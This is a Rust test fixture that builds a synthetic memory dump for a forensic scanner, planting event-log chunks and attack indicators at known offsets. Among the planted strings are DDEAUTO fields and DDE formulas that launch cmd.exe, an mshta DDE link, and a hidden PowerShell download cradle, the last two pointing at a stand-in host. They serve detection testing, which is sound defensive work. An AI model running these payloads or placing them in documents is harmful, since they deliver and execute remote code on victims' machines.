//! Memory-dump fixtures: a raw memory image with noise, zero and text pages, event-log chunks
//! copied out of the EVTX fixtures (one straddling a 1 MiB border, one copied twice, one cut
//! short at the end), DDE field text, DDE links and formulas, an Office command line, a
//! download cradle and Equation Editor traces in ASCII and UTF-16LE, and near misses that must
//! not count. [`memory_dump`] says where everything went, so tests assert exact offsets.

use crate::fixture;

/// Size of the dump.
pub const DUMP_SIZE: usize = 3 << 20;

/// Where one planted string went.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Planted {
    /// Byte offset of its first character.
    pub offset: u64,
    /// The text.
    pub text: &'static str,
    /// Whether it is stored in UTF-16LE (else ASCII).
    pub utf16: bool,
}

/// Where one event-log chunk went.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PlantedChunk {
    /// Byte offset of its `ElfChnk` signature.
    pub offset: u64,
    /// The log it was copied from (path under `testdata/`) and its chunk number.
    pub source: (&'static str, usize),
    /// Bytes of the chunk copied (65,536 unless cut short by the end of the dump).
    pub len: usize,
}

/// A memory dump and what is in it.
#[derive(Clone, Debug)]
pub struct MemoryDump {
    /// The dump.
    pub bytes: Vec<u8>,
    /// The strings planted, in offset order.
    pub strings: Vec<Planted>,
    /// The event-log chunks planted, in offset order.
    pub chunks: Vec<PlantedChunk>,
}

impl MemoryDump {
    /// Offsets of every copy of `text`.
    pub fn offsets_of(&self, text: &str) -> Vec<u64> {
        self.strings
            .iter()
            .filter(|p| p.text == text)
            .map(|p| p.offset)
            .collect()
    }
}

/// The strings planted: (offset, text, UTF-16LE).
const STRINGS: &[(u64, &str, bool)] = &[
    // A DDEAUTO field as Word keeps it, twice (one row, count 2).
    (
        0x0001_0040,
        r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#,
        false,
    ),
    (
        0x0002_2000,
        r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#,
        false,
    ),
    // An Excel DDE link, in UTF-16LE, across the 2 MiB border (tests carve in 1 MiB pieces).
    (
        0x001F_FFD0,
        r#"<ddeLink xmlns="x" ddeService="cmd" ddeTopic="/c mshta http://198.51.100.23/pa.hta">"#,
        true,
    ),
    // DDE formulas.
    (
        0x0003_0000,
        r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!A0",
        false,
    ),
    (0x0003_1000, r"=cmd|'/c powershell -nop -w hidden'!A0", true),
    // An Office command line opening the invoice (UTF-16LE, as in a process's PEB).
    (
        0x0004_0000,
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\alice\Downloads\Invoice_2291.docx""#,
        true,
    ),
    // A download cradle: two indicators in one string.
    (
        0x0004_8000,
        r"powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.23/inv.ps1')",
        false,
    ),
    // Equation Editor.
    (
        0x0005_0000,
        r"C:\Program Files (x86)\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE -Embedding",
        true,
    ),
    // Near misses: an Office image with no document, a pipe quote with no '!, DDE with no
    // program, look-alike names, a word cut short.
    (
        0x0006_0000,
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        false,
    ),
    (0x0006_1000, r"echo done |'quoted' text", false),
    (0x0006_2000, r"DDE server ready", false),
    (0x0006_3000, r"EQNEDT31.EXE MSEXCEL.EXE ddeServices", true),
    (0x0006_4000, r"DDEAUT", false),
];

/// The event-log chunks planted: (offset, source log, chunk number, bytes copied).
const CHUNKS: &[(u64, &str, usize, usize)] = &[
    // Across the 1 MiB border.
    (
        0x000F_C000,
        "evtx/positive/sysmon-1-office-child.evtx",
        0,
        65_536,
    ),
    (
        0x0014_0000,
        "evtx/positive/security-4688-v2.evtx",
        0,
        65_536,
    ),
    // The same chunk again: read once, counted as a duplicate.
    (
        0x0018_0000,
        "evtx/positive/sysmon-1-office-child.evtx",
        0,
        65_536,
    ),
    (
        0x0022_0000,
        "evtx/positive/sysmon-13-dde-registry.evtx",
        0,
        65_536,
    ),
    // Cut short by the end of the dump.
    (
        DUMP_SIZE as u64 - 20_000,
        "evtx/positive/multi-chunk.evtx",
        1,
        20_000,
    ),
];

/// A small deterministic generator (xorshift64*).
fn next(state: &mut u64) -> u64 {
    *state ^= *state >> 12;
    *state ^= *state << 25;
    *state ^= *state >> 27;
    state.wrapping_mul(0x2545_F491_4F6C_DD1D)
}

/// Fills `page` with one of the kinds of memory a dump is made of: zeros, high-byte noise
/// (never printable, so it cannot form a string) or plain prose.
pub fn fill_page(page: &mut [u8], state: &mut u64) {
    match next(state) % 4 {
        0 | 1 => page.fill(0),
        2 => {
            for byte in page.iter_mut() {
                *byte = 0x80 | (next(state) as u8 & 0x7F);
            }
        }
        _ => {
            let prose =
                b"The quarterly figures were reviewed and the minutes circulated to the team. ";
            for (i, byte) in page.iter_mut().enumerate() {
                *byte = prose[i % prose.len()];
            }
        }
    }
}

/// The memory-dump fixture.
pub fn memory_dump() -> MemoryDump {
    let mut bytes = vec![0u8; DUMP_SIZE];
    let mut state = 0x5DEE_CE66_D1CE_4E5Bu64;
    for page in bytes.chunks_mut(4096) {
        fill_page(page, &mut state);
    }
    let mut chunks = Vec::new();
    for &(offset, source, number, len) in CHUNKS {
        let log = fixture(source).map(|f| f.bytes).unwrap_or_default();
        let start = 4096 + number * 65_536;
        let chunk = &log[start..start + len];
        let at = offset as usize;
        bytes[at..at + len].copy_from_slice(chunk);
        chunks.push(PlantedChunk {
            offset,
            source: (source, number),
            len,
        });
    }
    let mut strings = Vec::new();
    for &(offset, text, utf16) in STRINGS {
        let encoded: Vec<u8> = if utf16 {
            text.encode_utf16().flat_map(u16::to_le_bytes).collect()
        } else {
            text.as_bytes().to_vec()
        };
        // Zeros on both sides: the string stands alone, as it would in a heap block.
        let at = offset as usize;
        bytes[at - 16..at + encoded.len() + 16].fill(0);
        bytes[at..at + encoded.len()].copy_from_slice(&encoded);
        strings.push(Planted {
            offset,
            text,
            utf16,
        });
    }
    strings.sort_by_key(|p| p.offset);
    MemoryDump {
        bytes,
        strings,
        chunks,
    }
}

/// Writes a benchmark memory dump of `size` bytes (rounded up to MiB) to `path`, streamed:
/// the fixture's kinds of pages, with the fixture's strings and event-log chunks planted again
/// in every 64 MiB. Returns how many strings and chunks were planted.
pub fn write_bench_dump(path: &std::path::Path, size: u64) -> std::io::Result<(u64, u64)> {
    use std::io::Write;
    const BLOCK: usize = 1 << 20;
    let fixture = memory_dump();
    let mut out = std::io::BufWriter::new(std::fs::File::create(path)?);
    let mut state = 0xB16B_00B5_0DDB_A11Eu64;
    let mut block = vec![0u8; BLOCK];
    let (mut strings, mut chunks) = (0, 0);
    for index in 0..size.div_ceil(BLOCK as u64) {
        for page in block.chunks_mut(4096) {
            fill_page(page, &mut state);
        }
        if index % 64 == 0 {
            // The fixture's first MiB and a half (strings and chunks) stand in for this block
            // and the next.
            block.copy_from_slice(&fixture.bytes[..BLOCK]);
            // A whole chunk too (the fixture's first one straddles the block's end).
            let whole = &fixture.chunks[1];
            let from = whole.offset as usize;
            block[0x8_0000..0x8_0000 + whole.len]
                .copy_from_slice(&fixture.bytes[from..from + whole.len]);
            strings += fixture
                .strings
                .iter()
                .filter(|p| p.offset < BLOCK as u64)
                .count() as u64;
            chunks += 1;
        }
        out.write_all(&block)?;
    }
    out.flush()?;
    Ok((strings, chunks))
}
